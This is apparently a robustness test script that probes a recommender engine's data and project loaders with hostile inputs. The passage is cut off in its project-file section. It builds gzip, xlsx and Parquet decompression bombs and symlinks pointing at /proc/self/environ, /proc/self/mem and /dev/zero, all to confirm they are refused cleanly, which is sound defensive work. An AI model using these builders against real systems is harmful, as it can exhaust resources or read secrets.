"""Hostile-input probe (issue 21): re-runs the issue's probe classes against today's code and prints
how many inputs each class tried, how many were handled cleanly, how many failed, and the peak
memory of the process that handled them.

Classes: malformed data files (CSV, Parquet, XLSX: non-finite values, decompression bombs, special
files, header bombs, time-only and implausible dates, odd encodings), crafted project files (sizes
over the limits in run configs, flipped bytes in every kind of blob, missing tables, wrong types,
hostile source paths), kill -9 during saves and exports, two writers on one project, a full disk
(a small tmpfs, else RLIMIT_FSIZE), formula injection in exports, and pseudonymisation (every
produced file searched for the original customer ids and paths).

"Clean" means: one line naming the file (data errors also name the row and column), a CLI exit
status of 2 with one line on stderr and no traceback, or the documented behaviour (a damaged part
of a project left out with a warning, the rest loaded; a killed save leaves the old or the new
state). Every input runs in a forked child with a time limit and an address-space limit, so a hang
or a memory bomb is counted as a failure and cannot take the probe down.

    sudo-less: nice python bench/probe_hostile.py [--only data,project,...] [--keep DIR]
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import random
import re
import resource
import select
import shutil
import signal
import socket
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

os.environ.setdefault("OMP_NUM_THREADS", "1")
os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("TRANSFORMERS_OFFLINE", "1")

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

import numpy as np  # noqa: E402
import pandas as pd  # noqa: E402
import pyarrow as pa  # noqa: E402
import pyarrow.parquet as pq  # noqa: E402

from engine.errors import EngineError  # noqa: E402

#: Extra address space a child may take beyond the probe's own (a memory bomb fails here instead of
#: pushing the machine into swap); what a clean refusal needs is far below it.
CHILD_EXTRA_BYTES = 6 * 2**30
CUSTOMERS = [f"Kundin Müller-{i:03d}" for i in range(120)]


# ---- running one input in a child ------------------------------------------------------------------
@dataclass
class Outcome:
    """What a child reported (``value``: its JSON result), how it ended, and its peak RSS (MB)."""

    value: dict
    status: str  # "done", "hang" (killed at the time limit), "died" (signal or exit without a result)
    rss_mb: float
    seconds: float


def _vm_bytes() -> int:
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("VmSize:"):
                return int(line.split()[1]) * 1024
    return 0


def describe(e: BaseException) -> dict:
    """A JSON-able account of an exception (an EngineError's file/row/column included)."""
    return {"error": type(e).__name__, "engine": isinstance(e, EngineError), "msg": str(e),
            "path": getattr(e, "path", None), "row": getattr(e, "row", None), "column": getattr(e, "column", None)}


def isolated(fn, *args, timeout: float = 90.0, limit_memory: bool = True) -> Outcome:
    """``fn(*args)`` (returning a JSON-able dict) in a forked child; an exception becomes
    ``describe(e)``. The child is killed after ``timeout`` seconds."""
    r, w = os.pipe()
    t0 = time.monotonic()
    pid = os.fork()
    if pid == 0:  # child
        os.close(r)
        try:
            if limit_memory:
                cap = _vm_bytes() + CHILD_EXTRA_BYTES
                resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
            try:
                out = fn(*args)
            except BaseException as e:  # noqa: BLE001 - reported to the parent
                out = describe(e)
            data = json.dumps(out, default=str).encode()
            with os.fdopen(w, "wb") as f:
                f.write(data)
        finally:
            os._exit(0)
    os.close(w)
    chunks, status = [], "done"
    deadline = t0 + timeout
    with os.fdopen(r, "rb") as f:
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                os.kill(pid, signal.SIGKILL)
                status = "hang"
                break
            ready, _, _ = select.select([f], [], [], min(left, 1.0))
            if ready:
                chunk = os.read(f.fileno(), 1 << 20)
                if not chunk:
                    break
                chunks.append(chunk)
    _, code, usage = os.wait4(pid, 0)
    raw = b"".join(chunks)
    try:
        value = json.loads(raw) if raw else {}
    except json.JSONDecodeError:
        value = {}
    if status == "done" and not raw:
        status = "died"
        value = {"error": f"child ended without a result (status {code})"}
    return Outcome(value, status, usage.ru_maxrss / 1024, time.monotonic() - t0)


def one_line(text) -> bool:
    return isinstance(text, str) and bool(text.strip()) and "\n" not in text.strip() and "Traceback" not in text


def cli(*argv) -> dict:
    """``recscope ARGV`` in this process (the CLI's own error handling): exit status and output."""
    from engine.cli.main import main
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main([str(a) for a in argv])
    return {"rc": rc, "stdout": out.getvalue()[-2000:], "stderr": err.getvalue()}


def cli_clean_error(res: dict) -> str | None:
    """None when a CLI run failed the way a user should see it: status 2, one line, no traceback."""
    if res.get("rc") != 2:
        return f"CLI exit status {res.get('rc')}: {res.get('stderr', '')[:160]!r}"
    if not one_line(res.get("stderr")) or "internal error" in res["stderr"]:
        return f"CLI stderr not one clear line: {res.get('stderr', '')[:160]!r}"
    return None


@dataclass
class ClassResult:
    name: str
    inputs: int = 0
    clean: int = 0
    failures: list[str] = field(default_factory=list)
    rss_mb: float = 0.0
    note: str = ""

    def add(self, label: str, problem: str | None, rss_mb: float = 0.0) -> None:
        self.inputs += 1
        self.rss_mb = max(self.rss_mb, rss_mb)
        if problem:
            self.failures.append(f"{label}: {problem}")
        else:
            self.clean += 1


def _outcome_problem(o: Outcome) -> str | None:
    if o.status == "hang":
        return f"no answer within {o.seconds:.0f} s (hang)"
    if o.status == "died":
        return o.value.get("error")
    return None


# ---- the client's data set used by the project, kill, disk, injection and pseudonym probes ------------
def write_shop(d: Path, customers=CUSTOMERS, items=None, titles=None, n_rows=2400) -> tuple[Path, Path]:
    """orders.csv (customer, item, date, quantity) and items.csv (item, title, category, price)."""
    items = items or [f"sku-{j:02d}" for j in range(60)]
    titles = titles or [f"Mug {j}" for j in range(len(items))]
    rng = np.random.default_rng(7)
    rows = pd.DataFrame({"customer": [customers[i % len(customers)] for i in range(n_rows)],
                         "item": [items[int(j)] for j in rng.zipf(1.4, n_rows) % len(items)],
                         "date": pd.Timestamp("2011-01-01") + pd.to_timedelta(np.arange(n_rows) * 3607, unit="s"),
                         "quantity": rng.integers(1, 5, n_rows)})
    rows.to_csv(d / "orders.csv", index=False)
    pd.DataFrame({"item": items, "title": titles, "category": [f"cat {j % 6}" for j in range(len(items))],
                  "price": np.round(rng.uniform(1, 30, len(items)), 2)}).to_csv(d / "items.csv", index=False)
    return d / "orders.csv", d / "items.csv"


def open_shop(d: Path):
    from engine.data import open_dataset
    from engine.data.splits import split
    ds = open_dataset(d / "orders.csv", catalog_path=d / "items.csv")
    return ds, split(ds.interactions, "random", 0.2, seed=1)


# ======================================================================================================
# 1. malformed data files
# ======================================================================================================
def _csv(text: str, name="orders.csv", encoding="utf-8"):
    def build(d: Path) -> Path:
        (d / name).write_bytes(text.encode(encoding) if isinstance(text, str) else text)
        return d / name
    return build


def _rows(n=30, value=lambda i: str(1 + i % 5), extra=""):
    return "user,item,rating\n" + "".join(f"u{i % 7},i{i % 11},{value(i)}\n" for i in range(n)) + extra


def _bad_at(cell: str, row=12, n=30) -> str:
    """A ratings CSV whose data row ``row`` (file line ``row + 1``) carries ``cell``."""
    return _rows(n, lambda i: cell if i == row - 1 else str(1 + i % 5))


def _frame_with(value, row=4, n=20, col="rating", dtype=None) -> pd.DataFrame:
    vals = [float(1 + i % 5) for i in range(n)]
    vals[row - 1] = value
    frame = pd.DataFrame({"user": [f"u{i % 5}" for i in range(n)], "item": [f"i{i % 7}" for i in range(n)],
                          col: vals})
    if dtype:
        frame[col] = frame[col].astype(dtype)
    return frame


def _parquet(frame_fn, name="orders.parquet", **kw):
    def build(d: Path) -> Path:
        frame_fn().to_parquet(d / name, **kw)
        return d / name
    return build


def _xlsx_rows(rows, name="orders.xlsx", formats=None):
    def build(d: Path) -> Path:
        import openpyxl
        wb = openpyxl.Workbook()
        ws = wb.active
        for r in rows:
            ws.append(list(r))
        for cell, fmt in (formats or {}).items():
            ws[cell].number_format = fmt
        wb.save(d / name)
        return d / name
    return build


def _xlsx_frame(frame_fn, name="orders.xlsx"):
    def build(d: Path) -> Path:
        frame_fn().to_excel(d / name, index=False)
        return d / name
    return build


def _parquet_many_rows(d: Path) -> Path:
    """101 million rows of one constant byte (a ~1 MB file): over MAX_ROWS by its footer."""
    path = d / "rows.parquet"
    block = pa.table({"user": pa.array(np.zeros(10_100_000, np.int8)), "item": pa.array(np.zeros(10_100_000, np.int8))})
    with pq.ParquetWriter(path, block.schema, compression="zstd") as w:
        for _ in range(10):
            w.write_table(block, row_group_size=10_100_000)
    return path


def _parquet_wide(d: Path) -> Path:
    path = d / "wide.parquet"
    pq.write_table(pa.table({f"c{i}": pa.array([1], pa.int8()) for i in range(17_000)}), path)
    return path


def _parquet_dictionary_bomb(d: Path) -> Path:
    """4 million rows of one 1,200-character string: ~60 KB on disk, 4.8 GB decoded (over the
    4 GB limit) — the footer states only the dictionary-encoded size."""
    path = d / "bomb.parquet"
    n = 4_000_000
    users = pa.DictionaryArray.from_arrays(pa.array(np.zeros(n, np.int32)), pa.array(["u" * 1200]))
    items = pa.DictionaryArray.from_arrays(pa.array(np.zeros(n, np.int32)), pa.array(["item"]))
    pq.write_table(pa.table({"user": users, "item": items}), path, compression="zstd", row_group_size=n)
    return path


def _xlsx_base(d: Path) -> Path:
    import openpyxl
    plain = d / "plain.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["user", "item", "rating"])
    for i in range(30):
        ws.append([f"u{i % 5}", f"i{i % 7}", 1 + i % 5])
    wb.save(plain)
    return plain


def _rezip(d: Path, name: str, change) -> Path:
    """A copy of a plain workbook with ``change(filename, data) -> data`` applied to each part."""
    plain = _xlsx_base(d)
    path = d / name
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, change(info.filename, src.read(info)))
    return path


def _xlsx_comment_bomb(d: Path) -> Path:
    return _rezip(d, "bomb.xlsx", lambda n, b: b"<!--" + b"a" * (200 * 2**20) + b"-->" + b
                  if n == "xl/worksheets/sheet1.xml" else b)


def _xlsx_shared_string_bomb(d: Path) -> Path:
    """A workbook with a 300 MB shared-strings part of one repeated letter (~300 KB compressed)."""
    path = _rezip(d, "strings.xlsx", lambda n, b: b)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/sharedStrings.xml", b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                   b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>' + b"x" * (300 * 2**20) + b"</t></si></sst>")
    return path


def _xlsx_stated_huge(d: Path) -> Path:
    """A workbook whose zip directory says its sheet is 3 GB (the part is small): over the limit."""
    path = _rezip(d, "stated.xlsx", lambda n, b: b)
    raw = bytearray(path.read_bytes())
    pos = raw.find(b"PK\x01\x02")
    while pos >= 0:  # each central directory entry: uncompressed size at +24, name length at +28
        (length,) = struct.unpack_from("<H", raw, pos + 28)
        if raw[pos + 46:pos + 46 + length] == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", raw, pos + 24, 3 * 2**30)
        pos = raw.find(b"PK\x01\x02", pos + 4)
    path.write_bytes(bytes(raw))
    return path


def _xlsx_many_rows(d: Path) -> Path:
    """A sheet of 1.1 million rows (more than Excel allows), written as XML directly."""
    plain = _xlsx_base(d)
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c><c r="B%d"><v>%d</v></c></row>' % (r, r, r % 97, r, r % 89)
                    for r in range(2, 1_100_002))
    sheet = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>user</t></is></c><c r="B1" t="inlineStr"><is>'
             b'<t>item</t></is></c></row>' + rows + b"</sheetData></worksheet>")
    path = d / "long.xlsx"
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, sheet if info.filename == "xl/worksheets/sheet1.xml" else src.read(info))
    return path


def _gzip_bomb(d: Path) -> Path:
    """A .csv.gz of 2.1 GB of one repeated line (~2 MB compressed: one 64 MB gzip member written 33
    times, as gzip allows): over the 2 GB text limit."""
    import gzip
    member = gzip.compress(b"u1,i1,1\n" * (8 * 2**20), compresslevel=9)
    with open(d / "orders.csv.gz", "wb") as f:
        f.write(gzip.compress(b"user,item,rating\n"))
        for _ in range(34):
            f.write(member)
    return d / "orders.csv.gz"


def _fifo(d: Path, link=False) -> Path:
    fifo = d / "orders.csv"
    os.mkfifo(fifo)
    if not link:
        return fifo
    (d / "link.csv").symlink_to(fifo)
    return d / "link.csv"


def _socket_file(d: Path) -> Path:
    path = d / "orders.csv"
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(path))
    return path


def _link(target):
    def build(d: Path) -> Path:
        (d / "orders.csv").symlink_to(target)
        return d / "orders.csv"
    return build


def _mixed(position: int, n=40) -> bytes:
    """A UTF-8 customer file whose line ``position`` (1 = header) was pasted from a cp1252 system."""
    lines = ["Kunde;Artikel;Bezeichnung"] + [f"Müller {u};A{u % 7};Tasse {u}" for u in range(1, n)]
    raw = [line.encode("utf-8") for line in lines]
    raw[position - 1] = lines[position - 1].encode("cp1252")
    return b"\n".join(raw) + b"\n"


def _names_file(names, encoding, sep=",", newline="\n", bom=False):
    text = newline.join(["customer" + sep + "item"] + [f"{n}{sep}i{j % 5}" for j, n in enumerate(names * 3)]) + newline
    raw = text.encode(encoding)
    return (b"\xef\xbb\xbf" if bom else b"") + raw


GERMAN = [f"Jürgen Größe {i}" for i in range(8)]
JAPANESE = [f"山田太郎{i}" for i in range(8)]
CHINESE = [f"张伟{i}" for i in range(8)]
RUSSIAN = [f"Иван Петров {i}" for i in range(8)]


@dataclass
class DataCase:
    label: str
    build: object  # (dir) -> Path
    expect: str  # "error+rc": error with row and column; "error": error naming the file; "ok"
    users: list | None = None  # for "ok": the customer ids that must come out exactly
    match: str | None = None


def data_cases() -> list[DataCase]:
    c = []
    for cell in ("inf", "-inf", "Infinity", "-Infinity", "1e309", "-1e309", "1e400", "5e38", "3.5e38", "INF",
                 "+inf", "1.8e308"):
        c.append(DataCase(f"csv rating {cell}", _csv(_bad_at(cell)), "error+rc" if cell != "1.8e308" else "error"))
    c.append(DataCase("csv quantity sum beyond float32", _csv("user,item,quantity\n" + "u1,i1,3e38\n" * 3),
                      "error"))
    c.append(DataCase("csv timestamp inf", _csv("user,item,timestamp\n" + "".join(
        f"u{i % 4},i{i},{978300760 + i}\n" for i in range(9)) + "u2,i2,inf\n"), "error+rc"))
    c.append(DataCase("csv timestamp 1e20", _csv("user,item,timestamp\n" + "".join(
        f"u{i % 4},i{i},{978300760 + i}\n" for i in range(9)) + "u2,i2,1e20\n"), "error+rc"))
    c.append(DataCase("csv semicolon decimal comma inf", _csv("user;item;rating\n" + "".join(
        f"u{i % 4};i{i};{i % 5},5\n" for i in range(9)) + "u2;i2;inf\n"), "error+rc"))
    c.append(DataCase("csv.gz rating inf", lambda d: _gz(d, _bad_at("inf")), "error+rc"))
    for label, value, dtype in (("inf", np.inf, None), ("-inf", -np.inf, None), ("1e39 (float32 overflow)", 1e39, None),
                                ("float32 inf", np.inf, "float32"), ("1e308 float64", 1e308, None)):
        c.append(DataCase(f"parquet rating {label}", _parquet(lambda v=value, t=dtype: _frame_with(v, dtype=t)),
                          "error+rc"))
    c.append(DataCase("parquet float32 quantities summing beyond float32", _parquet(lambda: pd.DataFrame(
        {"user": ["u1"] * 3 + ["u2"], "item": ["i1"] * 3 + ["i2"],
         "quantity": np.array([3.3e38] * 3 + [1], np.float32)})), "error"))
    c.append(DataCase("parquet timestamp inf", _parquet(lambda: _frame_with(np.inf, col="timestamp").assign(
        timestamp=lambda f: f["timestamp"].where(f.index != 3, np.inf) * 1 + 978300760)), "error+rc"))
    for label, value in (("inf", np.inf), ("1e39", 1e39), ("text 1e309", "1e309"), ("text Infinity", "Infinity")):
        c.append(DataCase(f"xlsx rating {label}", _xlsx_frame(lambda v=value: _frame_with(v).astype({"rating": object})),
                          "error+rc"))
    # bombs
    c.append(DataCase("parquet 101M rows in 1 MB", _parquet_many_rows, "error", match="rows"))
    c.append(DataCase("parquet 17,000 columns", _parquet_wide, "error", match="columns"))
    c.append(DataCase("parquet dictionary bomb 4.8 GB decoded", _parquet_dictionary_bomb, "error"))
    c.append(DataCase("xlsx 200 MB comment (zip bomb)", _xlsx_comment_bomb, "error"))
    c.append(DataCase("xlsx 300 MB shared string", _xlsx_shared_string_bomb, "error"))
    c.append(DataCase("xlsx directory states 3 GB", _xlsx_stated_huge, "error"))
    c.append(DataCase("xlsx 1.1M rows (over Excel's limit)", _xlsx_many_rows, "error"))
    c.append(DataCase("csv.gz 2.1 GB of lines (gzip bomb)", _gzip_bomb, "error"))
    # special files and paths
    if hasattr(os, "mkfifo"):
        c.append(DataCase("FIFO", _fifo, "error"))
        c.append(DataCase("symlink to a FIFO", lambda d: _fifo(d, link=True), "error"))
    c.append(DataCase("unix socket", _socket_file, "error"))
    for target in ("/dev/zero", "/dev/urandom", "/proc/self/mem", "/proc/self/status", "/proc/self/environ",
                   "/proc/kcore", "/dev/null"):
        c.append(DataCase(f"symlink to {target}", _link(target), "error"))
    c.append(DataCase("path /proc/self/mem", lambda d: Path("/proc/self/mem"), "error"))
    c.append(DataCase("a folder", lambda d: (d / "orders.csv").mkdir() or d / "orders.csv", "error"))
    c.append(DataCase("dangling symlink", _link("/nonexistent/orders.csv"), "error"))
    # header and line bombs, broken text
    c.append(DataCase("header of 70,000 columns", _csv(",".join(f"c{i}" for i in range(70_000)) + "\n1,2\n"), "error"))
    c.append(DataCase("header of 1M tab columns", _csv("\t".join("c" for _ in range(1_000_000)) + "\n"), "error"))
    c.append(DataCase("3 MB line, no breaks", _csv("x" * 3_000_000), "error"))
    c.append(DataCase("3 MB line of commas", _csv(("x" * 500 + ",") * 6000), "error"))
    c.append(DataCase("300 MB line, no breaks", _csv("y" * 300_000_000), "error"))
    c.append(DataCase("2 MB quoted cell", _csv(_rows(20, extra='u9,i9,"' + "z" * 2_000_000 + '"\n')), "error"))
    c.append(DataCase("unclosed quote", _csv(_rows(10) + 'u1,"i1,3\n' + _rows(10)[17:]), "error"))
    c.append(DataCase("NUL bytes in a line", _csv(_rows(10) + "u1,i\x001,3\n"), "error"))
    c.append(DataCase("random binary as .csv", lambda d: (d / "orders.csv").write_bytes(
        np.random.default_rng(1).bytes(200_000)) and d / "orders.csv", "error"))
    c.append(DataCase("empty file", _csv(""), "error"))
    c.append(DataCase("header only", _csv("user,item,rating\n"), "error"))
    c.append(DataCase("not gzip but .gz", _csv(_rows(10), name="orders.csv.gz"), "error"))
    c.append(DataCase("truncated gzip", lambda d: (d / "o.csv.gz").write_bytes(
        zlib.compress(_rows(200).encode())[:50]) and d / "o.csv.gz", "error"))
    c.append(DataCase("xlsx not a zip", _csv("this is not a workbook", name="orders.xlsx"), "error"))
    c.append(DataCase("parquet truncated", lambda d: _truncated_parquet(d), "error"))
    c.append(DataCase("utf-16-le without BOM (refused: save as UTF-8)", _csv(_names_file(GERMAN, "utf-16-le")),
                      "error"))
    c.append(DataCase("old .xls (OLE2)", _csv(b"\xd0\xcf\x11\xe0" + bytes(600), name="orders.xls"), "error"))
    # dates
    c.append(DataCase("xlsx time-only cell", _xlsx_rows([("user", "item", "date"), ("a", "x", pd.Timestamp("2011-01-02 08:00")
                                                                                    .to_pydatetime()),
                                                         ("b", "y", pd.Timestamp("08:26").to_pydatetime().time())]),
                      "error+rc"))
    c.append(DataCase("xlsx serial -700 as date", _xlsx_rows([("user", "item", "date"), ("a", "x", pd.Timestamp(
        "2011-01-02").to_pydatetime()), ("b", "y", -700)], formats={"C3": "yyyy-mm-dd"}), "error+rc"))
    c.append(DataCase("xlsx serial 0 as date", _xlsx_rows([("user", "item", "date"), ("a", "x", pd.Timestamp(
        "2011-01-02").to_pydatetime()), ("b", "y", 0)], formats={"C3": "yyyy-mm-dd"}), "error+rc"))
    c.append(DataCase("csv time-only dates", _csv("user,item,date\n" + "".join(
        f"u{i % 3},i{i},{8 + i % 9:02d}:{i % 60:02d}\n" for i in range(12))), "error+rc"))
    c.append(DataCase("csv date year 0001", _csv("user,item,date\n" + "".join(
        f"u{i % 3},i{i},2011-01-{1 + i:02d}\n" for i in range(9)) + "u1,i1,0001-01-01\n"), "error+rc"))
    c.append(DataCase("csv date year 9999", _csv("user,item,date\n" + "".join(
        f"u{i % 3},i{i},2011-01-{1 + i:02d}\n" for i in range(9)) + "u1,i1,9999-12-31\n"), "error+rc"))
    c.append(DataCase("csv timestamp -1e12", _csv("user,item,timestamp\n" + "".join(
        f"u{i % 4},i{i},{978300760 + i}\n" for i in range(9)) + "u2,i2,-1000000000000\n"), "error+rc"))
    # odd encodings (the customer names must come out exactly)
    for pos in (2, 20, 40):
        c.append(DataCase(f"utf-8 with a cp1252 line at line {pos}", _csv(_mixed(pos)), "ok",
                          users=[f"Müller {u}" for u in range(1, 40)]))
    c.append(DataCase("utf-8 with 3 cp1252 lines", _csv(_mixed_many()), "ok",
                      users=[f"Müller {u}" for u in range(1, 40)]))
    for label, names, enc, kw in (("utf-16 with BOM", GERMAN, "utf-16", {}),
                                  ("utf-8 BOM", GERMAN, "utf-8", {"bom": True}), ("cp1252", GERMAN, "cp1252", {}),
                                  ("latin-1 ; CRLF", GERMAN, "latin-1", {"sep": ";", "newline": "\r\n"}),
                                  ("shift_jis", JAPANESE, "shift_jis", {}), ("gb18030", CHINESE, "gb18030", {}),
                                  ("gbk tab", CHINESE, "gbk", {"sep": "\t"}), ("cp1251", RUSSIAN, "cp1251", {}),
                                  ("koi8-r", RUSSIAN, "koi8_r", {}), ("utf-8 CR-only lines", GERMAN, "utf-8", {"newline": "\r"}),
                                  ("utf-32", CHINESE, "utf-32", {})):
        c.append(DataCase(label, _csv(_names_file(names, enc, **kw)), "ok", users=names))
    return c


def _mixed_many() -> bytes:
    lines = ["Kunde;Artikel;Bezeichnung"] + [f"Müller {u};A{u % 7};Tasse {u}" for u in range(1, 40)]
    return b"\n".join(line.encode("cp1252" if j in (3, 17, 33) else "utf-8") for j, line in enumerate(lines)) + b"\n"


def _gz(d: Path, text: str) -> Path:
    import gzip
    (d / "orders.csv.gz").write_bytes(gzip.compress(text.encode()))
    return d / "orders.csv.gz"


def _truncated_parquet(d: Path) -> Path:
    _frame_with(1.0).to_parquet(d / "t.parquet")
    raw = (d / "t.parquet").read_bytes()
    (d / "t.parquet").write_bytes(raw[: len(raw) // 2])
    return d / "t.parquet"


def _probe_data_file(path: str) -> dict:
    """`recscope info` (first: a warning printed once per process must reach its stderr), then
    open_dataset (+ save the data set to a project and open it again)."""
    from engine.data import open_dataset
    from engine.store import Project, save_new
    out: dict = {"cli": cli("info", path)}
    try:
        ds = open_dataset(path)
        inter = ds.interactions
        out["ok"] = {"users": [str(u) for u in inter.user_ids[:500]], "n_events": int(inter.n_events),
                     "finite": bool(np.isfinite(inter.values).all()) if inter.values is not None else True}
        proj = Path(tempfile.mkdtemp()) / "p.recscope"
        save_new(proj, dataset=ds).close()  # the writer accepts what the reader accepted ...
        with Project.open(proj) as p:  # ... and the project opens again (issue 21 item 1)
            got = p.load(verify_sources=False)
        out["reopened"] = got.dataset is not None and not got.warnings
    except BaseException as e:  # noqa: BLE001 - reported
        out.update(describe(e))
    return out


def data_problem(case: DataCase, path: Path, o: Outcome) -> str | None:
    if (p := _outcome_problem(o)):
        return p
    v = o.value
    if case.expect == "ok":
        if "ok" not in v:
            return f"refused: {v.get('error')}: {v.get('msg', '')[:150]}"
        if not v.get("reopened"):
            return f"saved but the project does not open again ({v.get('msg', '')[:120]})"
        if case.users is not None and sorted(v["ok"]["users"]) != sorted(map(str, case.users)):
            extra = sorted(set(v["ok"]["users"]) - set(case.users))[:3]
            return f"customer ids changed (e.g. {extra})"
        if v["cli"]["rc"] != 0 or v["cli"]["stderr"].strip():
            return f"CLI exit status {v['cli']['rc']}, stderr {v['cli']['stderr'][:120]!r}"
        return None
    if "ok" in v:
        return f"accepted ({v['ok']['n_events']} events, finite={v['ok']['finite']}), expected a refusal"
    if not v.get("engine"):
        return f"{v.get('error')} (not an EngineError): {v.get('msg', '')[:150]}"
    if not one_line(v.get("msg")):
        return "message is not one line"
    named = v.get("path") or ""
    if path.name not in (named + v["msg"]):
        return f"message does not name the file: {v['msg'][:120]}"
    if case.expect == "error+rc" and (v.get("row") is None or v.get("column") is None):
        return f"no row/column: {v['msg'][:120]}"
    if case.match and case.match not in v["msg"]:
        return f"message lacks {case.match!r}: {v['msg'][:120]}"
    return cli_clean_error(v["cli"])


def probe_data(work: Path) -> ClassResult:
    res = ClassResult("malformed data files")
    for j, case in enumerate(data_cases()):
        d = work / f"data{j:03d}"
        d.mkdir()
        path = case.build(d)
        o = isolated(_probe_data_file, str(path), timeout=120)
        res.add(case.label, data_problem(case, path, o), o.rss_mb)
        with contextlib.suppress(OSError):
            shutil.rmtree(d)
    return res


# ---- cancel while parsing (item 5: a long xlsx parses with a cancel check) ----------------------------
def _cancel_latency(path: str) -> dict:
    import threading
    from engine.data import read_table
    from engine.errors import Cancelled
    from engine.progress import CancelToken
    token = CancelToken()
    threading.Timer(1.0, token.cancel).start()
    t0 = time.monotonic()
    try:
        read_table(path, cancel=token)
        return {"finished": time.monotonic() - t0}
    except Cancelled:
        return {"cancelled_after": time.monotonic() - t0 - 1.0}


def probe_cancel(work: Path) -> ClassResult:
    res = ClassResult("cancel while parsing")
    d = work / "cancel"
    d.mkdir()
    n = 400_000
    frame = pd.DataFrame({"user": np.arange(n) % 5000, "item": np.arange(n) % 997, "rating": np.arange(n) % 5 + 1})
    frame.iloc[:150_000].to_excel(d / "long.xlsx", index=False)
    frame.to_parquet(d / "long.parquet", row_group_size=20_000)
    pd.concat([frame] * 30).to_csv(d / "long.csv", index=False)
    for name in ("long.xlsx", "long.parquet", "long.csv"):
        o = isolated(_cancel_latency, str(d / name), timeout=180)
        v = o.value
        problem = _outcome_problem(o) or (None if v.get("cancelled_after", 99) < 5 or "finished" in v and v["finished"] < 1.5
                                          else f"cancel took {v.get('cancelled_after', v.get('finished')):.1f} s")
        res.add(name, problem, o.rss_mb)
        res.note += f"{name}: {'cancelled %.2f s after the press' % v['cancelled_after'] if 'cancelled_after' in v else 'finished before the press'}; "
    return res



# ======================================================================================================
# 2. crafted project files
# ======================================================================================================
#: Runs of the base project: registry name -> parameters (small, fast fits).
BASE_RUNS = {"pop": {}, "ease": {}, "itemknn": {"k": 20}, "bpr": {"epochs": 2, "factors": 16},
             "ials": {"epochs": 2, "factors": 16}, "sasrec": {"epochs": 1, "hidden": 16, "max_len": 10, "blocks": 1},
             "twotower": {"epochs": 1, "factors": 16, "negatives": 64, "text": False},
             "lm": {"epochs": 1, "tune_epochs": 1, "dim": 16, "max_len": 10, "max_tokens": 16, "user": "attention",
                    "device": "cpu"}}


def _train(sp, catalog, names) -> list:
    from engine.models import registry
    from engine.runs import train_run
    runs = []
    for name in names:
        params = dict(BASE_RUNS[name], **({"seed": 1} if "seed" in registry.get(name).defaults else {}))
        try:
            runs.append(train_run(name, params, sp, catalog=catalog, name=name))
        except EngineError as e:  # a model this machine cannot train (the lm without its encoder)
            print(f"  {name} left out ({e})", file=sys.stderr)
    return runs


def _build_base(d: str) -> dict:
    """The base project: the shop's data and catalog, a split, one run per BASE_RUNS entry, a rule
    set and a note. Returns run name -> run id."""
    from engine.store import save_new
    ds, sp = open_shop(Path(d))
    runs = _train(sp, ds.catalog, BASE_RUNS)
    project = save_new(Path(d) / "base.recscope", dataset=ds, split=sp, runs=runs)
    project.save_rules("tail", {"rules": [{"type": "long_tail", "weight": 0.3}]})
    project.add_note("called about the lists")
    project.close()
    return {r.name: r.id for r in runs}


def _load_project(path: str) -> dict:
    """Open and load a project, then use every run (a top-5 for three customers)."""
    from engine.store import Project
    with Project.open(path) as project:
        got = project.load(verify_sources=True)
    for run in got.runs:
        run.model.recommend(np.arange(min(3, run.model.n_users)), 5)
    return {"runs": [r.name for r in got.runs], "dataset": got.dataset is not None,
            "catalog": got.dataset is not None and got.dataset.catalog is not None, "split": got.split is not None,
            "rules": len(got.rules), "warnings": got.warnings}


def _sql(path, statement, *args):
    con = sqlite3.connect(path)
    try:
        out = con.execute(statement, args).fetchall()
        con.commit()
        return out
    finally:
        con.close()


def _set_params(path, run, **params):
    (config,) = _sql(path, "SELECT model_config FROM runs WHERE name = ?", run)[0]
    doc = json.loads(config)
    doc["params"].update(params)
    _sql(path, "UPDATE runs SET model_config = ? WHERE name = ?", json.dumps(doc), run)


def _set_config(path, run, **top):
    (config,) = _sql(path, "SELECT model_config FROM runs WHERE name = ?", run)[0]
    _sql(path, "UPDATE runs SET model_config = ? WHERE name = ?", json.dumps({**json.loads(config), **top}), run)


def _flip(path, key, offset):
    (data,) = _sql(path, "SELECT data FROM blobs WHERE key = ? AND part = 0", key)[0]
    raw = bytearray(data)
    raw[offset % len(raw)] ^= 0x10
    _sql(path, "UPDATE blobs SET data = ? WHERE key = ? AND part = 0", bytes(raw), key)


@dataclass
class ProjectCase:
    label: str
    mutate: object  # (path, run ids) -> None
    lost: str  # "file": refused as a whole; a run name; "catalog", "dataset", "split", "rules"; "" nothing


def project_cases(run_ids: dict) -> list[ProjectCase]:
    c: list[ProjectCase] = []
    sizes = {"sasrec": [{"hidden": 60000}, {"max_len": 300_000_000}, {"blocks": 100000}, {"heads": 100000},
                        {"hidden": 4096}, {"max_len": 4096}],
             "twotower": [{"factors": 60000}, {"layers": 100000}, {"factors": 4096}, {"layers": 16}],
             "bpr": [{"factors": 60000}, {"factors": 4096}], "ials": [{"factors": 60000}],
             "itemknn": [{"k": 10**12}], "ease": [{"max_items": 10**12}],  # caps used by a fit only
